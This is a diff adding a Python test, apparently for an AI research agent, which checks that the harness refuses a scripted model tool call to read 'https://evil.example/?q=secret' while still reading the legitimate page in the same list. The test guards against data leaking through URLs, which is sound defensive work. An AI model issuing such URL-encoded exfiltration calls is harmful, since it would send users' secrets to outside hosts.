@@ -660,6 +660,27 @@ async def test_a_search_without_results_is_made_again_without_its_limits(case: M
     assert [page.url for page in acquired.pages] == [PAGE.url]
 
 
+async def test_an_unnamed_page_does_not_keep_the_others_of_its_list_from_being_read(
+    case: ModelCase,
+) -> None:
+    mixed = {"urls": ["https://evil.example/?q=secret", PAGE.url]}
+    reads = _acquires({"name": "tavilyExtract", "arguments": mixed})
+    case.sandbox_control.script(_acquires(SEARCH), reads, reads, _acquires(content="[1.1]"))
+    acquired = await acquire(case.model, case.search, await case.situation())
+    assert case.web.read == [PAGE.url]
+    assert SENTENCE in acquired.document
+    told = [
+        json.loads(m["content"]) for m in case.recording.asked[-1].messages if m["role"] == "tool"
+    ]
+    assert ["evil.example/?q=secret" in each.get("refused", "") for each in told] == [
+        False,
+        True,
+        True,
+    ]
+    assert SENTENCE in told[1]["results"][0]["content"]
+    assert "made before" in told[2]["note"]
+
+
 async def test_the_sources_of_a_research_are_read_if_no_page_was(case: ModelCase) -> None:
     """Only a page can be quoted: from a research alone nothing could be written."""
     research = {"name": "tavilyResearch", "arguments": {"input": "Who digs lithium in Ghana?"}}
